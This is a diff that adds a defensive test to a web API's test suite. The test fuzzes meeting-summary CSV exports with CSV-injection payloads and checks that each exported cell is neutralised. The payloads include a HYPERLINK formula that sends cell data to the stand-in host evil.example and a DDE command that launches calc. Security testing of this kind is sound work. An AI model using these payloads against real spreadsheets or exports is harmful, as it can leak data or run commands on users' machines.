@@ -258,3 +258,99 @@ describe('Fuzzing every command endpoint (POST, PUT, PATCH) with malformed bodie
     });
   });
 });
+
+/** Spreadsheet formula prefixes (OWASP CSV injection): a cell starting with one of them must never run. */
+const FORMULA_PREFIXES = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
+
+describe('Fuzzing the CSV exports with formula prefixes in titles and authors', () => {
+  let t: TestApp;
+  beforeAll(async () => {
+    t = await createTestApp();
+  });
+  afterAll(() => t.close());
+
+  it('When titles and management authors start with =, +, -, @, tab or CR, then every CSV cell is neutralised', async () => {
+    const post = (path: string, body: object) => t.http().post(path).send(body);
+    await post('/api/units', { unitId: 'spip-99', kind: 'SPIP', name: 'SPIP 99' }).expect(201);
+    await post('/api/units', {
+      unitId: 'ant-99',
+      kind: 'ANTENNA',
+      name: 'Antenne 99',
+      parentId: 'spip-99',
+      milieu: 'MO',
+    }).expect(201);
+    const meeting = await post('/api/meetings', {
+      instanceId: 'csa-spip-99',
+      instanceName: 'CSA SPIP 99',
+      instanceType: 'csa_spip_local',
+      scheduledFor: '2024-06-01',
+      occurredAt: '2024-02-01T09:00:00.000Z',
+    }).expect(201);
+    const payloads = FORMULA_PREFIXES.flatMap((prefix) => [
+      `${prefix}HYPERLINK("http://evil.example/?"&A1;"cliquer")`,
+      `${prefix}1+1`,
+      `${prefix}cmd|' /C calc'!A0`,
+    ]);
+    for (const [i, title] of payloads.entries()) {
+      const demand = await post('/api/demands', {
+        antennaId: 'ant-99',
+        title: `${title} ${i}`,
+        category: 'staffing_recruitment',
+        explicit: true,
+        priority: 'high',
+        addressees: [{ role: 'DFSPIP', organisation: 'spip-99' }],
+        level: 'local',
+        occurredAt: '2024-02-23T09:00:00.000Z',
+      }).expect(201);
+      await post(`/api/demands/${demand.body.id}/submissions`, {
+        channel: 'letter',
+        addressee: { role: 'DFSPIP', organisation: 'spip-99' },
+        submittedAt: '2024-02-24',
+      }).expect(201);
+      await post(`/api/demands/${demand.body.id}/responses`, {
+        stance: 'defer',
+        text: 'Réponse',
+        authorRole: title,
+        channel: 'letter',
+        respondedAt: '2024-03-01',
+        newDueAt: '2024-04-30',
+      }).expect(201);
+    }
+    for (const separateur of ['point-virgule', 'virgule']) {
+      const csv = await t
+        .http()
+        .get(`/api/meetings/${meeting.body.id}/summary.csv?separateur=${separateur}`)
+        .expect(200);
+      const separator = separateur === 'virgule' ? ',' : ';';
+      const cells = cellsOf(csv.text.slice(1), separator);
+      expect(cells.length).toBeGreaterThan(payloads.length * 2);
+      const live = cells.filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell));
+      expect(live).toEqual([]);
+      for (const title of payloads) expect(cells.some((cell) => cell.startsWith(`'${title}`))).toBe(true);
+    }
+  }, 120_000);
+});
+
+/** The cells of a CSV as a spreadsheet reads them (quoted fields unquoted, doubled quotes undone). */
+function cellsOf(text: string, separator: string): string[] {
+  const cells: string[] = [];
+  let field = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i] as string;
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') {
+        field += '"';
+        i++;
+      } else if (c === '"') quoted = false;
+      else field += c;
+    } else if (c === '"' && field === '') quoted = true;
+    else if (c === separator || (c === '\r' && text[i + 1] === '\n')) {
+      cells.push(field);
+      field = '';
+      if (c === '\r') i++;
+    } else field += c;
+  }
+  if (field !== '') cells.push(field);
+  return cells;
+}
